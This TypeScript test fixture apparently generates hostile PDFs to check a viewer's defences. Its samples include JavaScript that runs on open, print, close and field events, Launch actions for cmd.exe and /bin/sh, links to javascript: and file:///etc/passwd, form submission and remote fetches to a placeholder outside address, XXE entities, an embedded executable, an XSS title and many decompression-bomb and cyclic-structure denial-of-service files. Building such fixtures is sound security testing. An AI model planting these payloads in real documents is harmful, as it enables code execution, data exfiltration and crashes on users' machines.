import { deflateSync } from 'node:zlib';
import { hit } from './hostile-book.ts';

interface Stream {
  readonly body: string | Buffer;
  readonly entries: string;
}

type Objects = Readonly<Record<number, string | Stream>>;

/** Writes the book; the argument is where a request would be seen. */
type PdfOf = (outside: string) => Buffer;

interface Plan {
  /** Entries of the catalogue and of the first page. */
  readonly root?: string;
  readonly page?: string;
  readonly content?: string | Buffer;
  /** Further objects, from 10 on; or instead of one of the first. */
  readonly objects?: Objects;
  readonly trailer?: string;
}

const stream = (body: string | Buffer, entries = ''): Stream => ({ body, entries });

function written(object: string | Stream, outside: string): Buffer {
  const placed = (text: string) => Buffer.from(text.replaceAll('@OUT@', outside));
  if (typeof object === 'string') return placed(object);
  const bytes = typeof object.body === 'string' ? placed(object.body) : object.body;
  return Buffer.concat([
    placed(`<< /Length ${bytes.length} ${object.entries} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ]);
}

/** A PDF of one page with a line of text, written object by object. */
function pdf({
  root = '',
  page = '',
  content = 'BT /F1 18 Tf 40 700 Td (uno) Tj ET',
  objects = {},
  trailer = '',
}: Plan): PdfOf {
  const all: Record<number, string | Stream> = {
    1: `<< /Type /Catalog /Pages 2 0 R ${root} >>`,
    2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Resources << /Font << /F1 5 0 R >> /XObject << /X 10 0 R >> >> /Contents 4 0 R ${page} >>`,
    4: stream(content),
    5: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...objects,
  };
  return (outside) => {
    const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
    const places = new Map<number, number>();
    let length = parts[0]?.length ?? 0;
    for (const [id, body] of Object.entries(all)) {
      const part = Buffer.concat([Buffer.from(`${id} 0 obj\n`), written(body, outside), Buffer.from('\nendobj\n')]);
      places.set(Number(id), length);
      parts.push(part);
      length += part.length;
    }
    const most = Math.max(...places.keys());
    const lines = Array.from({ length: most }, (_, index) => {
      const at = places.get(index + 1);
      return at === undefined ? '0000000000 65535 f \n' : `${String(at).padStart(10, '0')} 00000 n \n`;
    });
    parts.push(
      Buffer.from(
        `xref\n0 ${most + 1}\n0000000000 65535 f \n${lines.join('')}trailer\n<< /Size ${most + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${length}\n%%EOF\n`,
      ),
    );
    return Buffer.concat(parts);
  };
}

const script = `(${`app.alert(1); this.getURL('@OUT@/js'); app.launchURL('@OUT@/launch', true); ${hit}`.replaceAll(/[()\\]/g, '\\$&')})`;
/** A link over the whole page that does this. */
const link = (action: string, more = '') =>
  pdf({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << ${action} >> ${more} >>]` });
const form = (inside: string, objects: Objects = {}) =>
  pdf({
    content: '/X Do',
    objects: {
      10: stream(
        inside,
        '/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /XObject << /X 10 0 R /Y 11 0 R >> >>',
      ),
      ...objects,
    },
  });

/** PDFs that try to run something, to reach somebody, or to keep the reader busy for ever. */
export const pdfs: Readonly<Record<string, PdfOf>> = {
  'a script at opening': pdf({ root: `/OpenAction << /S /JavaScript /JS ${script} >>` }),
  'scripts by name': pdf({ root: `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ${script} >>] >> >>` }),
  'a script of a page': pdf({
    page: `/AA << /O << /S /JavaScript /JS ${script} >> /C << /S /JavaScript /JS ${script} >> >>`,
  }),
  'scripts around printing and closing': pdf({
    root: `/AA << /WC << /S /JavaScript /JS ${script} >> /DP << /S /JavaScript /JS ${script} >> >>`,
  }),
  'a link that is a script': link(`/S /JavaScript /JS ${script}`),
  'a link to a script address': link(`/S /URI /URI (javascript:${hit.replaceAll(/[()\\]/g, '\\$&')})`),
  'a link to a document of its own': link('/S /URI /URI (data:text/html,<script>1</script>)'),
  'a link to a file of the device': link('/S /URI /URI (file:///etc/passwd)'),
  'an address that calls itself': pdf({ root: '/OpenAction << /S /URI /URI (@OUT@/open) >>' }),
  'a page that calls an address': pdf({ page: '/AA << /O << /S /URI /URI (@OUT@/aa) >> >>' }),
  'a program': link('/S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >>'),
  'a program at opening': pdf({ root: '/OpenAction << /S /Launch /F (/bin/sh) /NewWindow true >>' }),
  'a form that is sent': link('/S /SubmitForm /F << /FS /URL /F (@OUT@/submit) >> /Flags 4'),
  'a form that is sent at opening': pdf({
    root: '/OpenAction << /S /SubmitForm /F << /FS /URL /F (@OUT@/submit) >> >> /AcroForm << /Fields [] >>',
  }),
  'data that are brought': pdf({ root: '/OpenAction << /S /ImportData /F (@OUT@/x.fdf) >>' }),
  'another book': link('/S /GoToR /F (@OUT@/other.pdf) /D [0 /Fit] /NewWindow true'),
  'another book inside': link('/S /GoToE /T << /R /C /N (x.pdf) >> /D [0 /Fit]'),
  'a file that is attached': pdf({
    root: '/Names << /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (x.exe) /EF << /F 11 0 R >> >>] >> >>',
    objects: { 11: stream('MZ', '/Type /EmbeddedFile') },
  }),
  'a form of XML': pdf({
    root: '/AcroForm << /Fields [] /XFA [(template) 11 0 R] >> /NeedsRendering true',
    objects: {
      11: stream(
        `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">${hit}</script></event></subform></template><!DOCTYPE x [<!ENTITY y SYSTEM "@OUT@/xfa">]>&y;</xdp:xdp>`,
      ),
    },
  }),
  'fields that calculate': pdf({
    root: `/AcroForm << /Fields [11 0 R] /CO [11 0 R] /NeedAppearances true >>`,
    page: '/Annots [11 0 R]',
    objects: {
      11: `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (1) /Rect [0 0 600 800] /AA << /K << /S /JavaScript /JS ${script} >> /C << /S /JavaScript /JS ${script} >> /Fo << /S /JavaScript /JS ${script} >> >> >>`,
    },
  }),
  'a page drawn from outside': pdf({
    objects: { 4: '<< /Length 0 /F << /FS /URL /F (@OUT@/stream) >> >>\nstream\n\nendstream' },
  }),
  'a picture from outside': pdf({
    content: '/X Do',
    objects: {
      10: '<< /Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 0 /F << /FS /URL /F (@OUT@/image) >> >>\nstream\n\nendstream',
    },
  }),
  'a picture instead of another': pdf({
    content: '/X Do',
    objects: {
      10: stream(
        'x',
        '/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /OPI << /2.0 << /Type /OPI /F (@OUT@/opi) >> >>',
      ),
    },
  }),
  'a page of another book': form('', {
    10: stream(
      '',
      '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F << /FS /URL /F (@OUT@/ref.pdf) >> /Page 0 >>',
    ),
  }),
  'films, sounds and bodies': pdf({
    page: '/Annots [<< /Type /Annot /Subtype /Movie /Rect [0 0 600 300] /Movie << /F << /FS /URL /F (@OUT@/movie) >> >> /A true >> << /Type /Annot /Subtype /Screen /Rect [0 300 600 500] /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /FS /URL /F (@OUT@/rendition) >> >> >> >> >> << /Type /Annot /Subtype /RichMedia /Rect [0 500 600 700] /RichMediaContent << /Assets << /Names [] >> >> >> << /Type /Annot /Subtype /3D /Rect [0 700 600 800] >>] /AA << /O << /S /Sound /Sound 11 0 R >> >>',
    objects: { 11: stream('', '/Type /Sound /R 8000 /F << /FS /URL /F (@OUT@/sound) >>') },
  }),
  'names of places outside': pdf({
    root: '/URI << /Base (@OUT@/) >> /Metadata 11 0 R /Threads [] /OpenAction << /S /GoTo /D (x) /Next << /S /URI /URI (next) >> >>',
    objects: {
      11: stream(
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "@OUT@/xmp">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&y;</x:xmpmeta>',
        '/Type /Metadata /Subtype /XML',
      ),
    },
  }),
  'pages in a circle': pdf({ objects: { 2: '<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 3 /Parent 2 0 R >>' } }),
  'a page that is its own parent': pdf({
    objects: {
      2: '<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 3 0 R >>',
      3: '<< /Type /Page /Parent 3 0 R /Contents 4 0 R >>',
    },
  }),
  'two thousand million pages': pdf({ objects: { 2: '<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>' } }),
  'fewer pages than none': pdf({ objects: { 2: '<< /Type /Pages /Kids [3 0 R] /Count -5 >>' } }),
  'a hundred thousand pages': pdf({
    objects: { 2: `<< /Type /Pages /Kids [${'3 0 R '.repeat(100_000)}] /Count 100000 >>` },
  }),
  'contents in a circle': pdf({
    root: '/Outlines 11 0 R',
    objects: {
      11: '<< /First 12 0 R /Last 12 0 R /Count 1 >>',
      12: '<< /Title (x) /Parent 12 0 R /Next 12 0 R /First 11 0 R /Dest [3 0 R /Fit] >>',
    },
  }),
  'contents without a floor': pdf({
    root: '/Outlines 11 0 R',
    objects: {
      11: '<< /First 12 0 R >>',
      ...Object.fromEntries(
        Array.from({ length: 5_000 }, (_, i) => [
          12 + i,
          `<< /Title (x${i}) /First ${13 + i} 0 R /Next ${13 + i} 0 R >>`,
        ]),
      ),
    },
  }),
  'names in a circle': pdf({
    root: '/Names << /Dests 11 0 R >> /OpenAction (a)',
    objects: { 11: '<< /Kids [11 0 R 11 0 R] /Limits [(a) (z)] >>' },
  }),
  'labels without an end': pdf({
    root: '/PageLabels << /Nums [0 << /S /r /St 2147483647 >> 1 << /P (x) /S /A /St 999999999 >>] >>',
  }),
  'letters made of themselves': pdf({
    objects: {
      5: '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /CharProcs << /u 11 0 R >> /Encoding << /Differences [117 /u] >> /FirstChar 117 /LastChar 117 /Widths [1] /Resources << /Font << /F1 5 0 R >> >> >>',
      11: stream('1 0 d0 BT /F1 1 Tf (u) Tj ET'),
    },
  }),
  'a page of absurd size': pdf({ page: '/MediaBox [0 0 1000000000 1000000000] /UserUnit 1000000' }),
  'a page without size': pdf({ page: '/MediaBox [0 0 0 0] /CropBox [9 9 -9 -9]' }),
  'a page of no numbers': pdf({ page: '/MediaBox [null (x) 1e999 -1e999] /Rotate 37' }),
  'a page as long as a road': pdf({ page: '/MediaBox [0 0 1 1000000]' }),
  'a picture of absurd size': pdf({
    content: '600 0 0 800 0 0 cm /X Do',
    objects: {
      10: stream(
        deflateSync(Buffer.alloc(1_000_000)),
        '/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 16 /Filter /FlateDecode',
      ),
    },
  }),
  'lines that unpack to two hundred megabytes': pdf({
    objects: { 4: stream(deflateSync(Buffer.alloc(200 * 1024 * 1024, ' ')), '/Filter /FlateDecode') },
  }),
  'filters one inside the other': pdf({ objects: { 4: stream('x', `/Filter [${'/ASCIIHexDecode '.repeat(5_000)}]`) } }),
  'lists one inside the other': pdf({ root: `/X ${'['.repeat(100_000)}${']'.repeat(100_000)}` }),
  'a state that is never given back': pdf({ content: `${'q '.repeat(500_000)} BT /F1 18 Tf (uno) Tj ET` }),
  'a line of a million corners': pdf({
    content: `0 0 m ${Array.from({ length: 300_000 }, (_, i) => `${(i * 7919) % 600} ${(i * 104_729) % 800} l`).join(' ')} 0.01 w [0.001 0.001] 0 d S`,
  }),
  'a table of places in a circle': (outside) => {
    const bytes = pdf({ trailer: '/Prev 9' })(outside);
    const at = bytes.lastIndexOf('xref', bytes.lastIndexOf('startxref') - 1);
    return Buffer.from(bytes.toString('latin1').replace('/Prev 9', `/Prev ${at}`), 'latin1');
  },
  'a stream of objects inside itself': pdf({
    objects: {
      4: '12 0 R',
      11: stream('12 0 << >>', '/Type /ObjStm /N 1 /First 5 /Extends 11 0 R'),
      12: '13 0 R',
      13: '12 0 R',
    },
  }),
  'a length that is itself': pdf({ objects: { 4: '<< /Length 4 0 R >>\nstream\nBT ET\nendstream' } }),
  'a lock nobody made': pdf({ trailer: '/Encrypt << /Filter /Nobody /V 99 /R 99 /O () /U () /P 0 >> /ID [() ()]' }),
  'a title that is markup': pdf({
    trailer: '/Info 11 0 R',
    objects: {
      11: `<< /Title (<img src=x onerror="${hit.replaceAll(/[()\\]/g, '\\$&')}">) /Author (\u0000\u202e\u0007) >>`,
    },
  }),
};

/** Of these a page takes ten seconds and more, in the worker. */
export const endless: Readonly<Record<string, PdfOf>> = {
  'a drawing that draws itself': form('/X Do /X Do'),
  'drawings that draw each other': form('/Y Do /Y Do', {
    11: stream(
      '/X Do /X Do',
      '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 10 0 R >> >>',
    ),
  }),
  'a billion drawings': pdf({
    content: '/X Do',
    objects: {
      ...Object.fromEntries(
        Array.from({ length: 9 }, (_, i) => [
          10 + i,
          stream(
            '/X Do '.repeat(10),
            `/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /XObject << /X ${11 + i} 0 R >> >>`,
          ),
        ]),
      ),
      19: stream('0 0 9 9 re f', '/Type /XObject /Subtype /Form /BBox [0 0 600 800]'),
    },
  }),
  'a pattern made of itself': pdf({
    content: '/Pattern cs /P scn 0 0 600 800 re f',
    page: '/Resources << /Pattern << /P 11 0 R >> >>',
    objects: {
      11: stream(
        '/Pattern cs /P scn 0 0 9 9 re f',
        '/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.5 /YStep 0.5 /Resources << /Pattern << /P 11 0 R >> >>',
      ),
    },
  }),
};
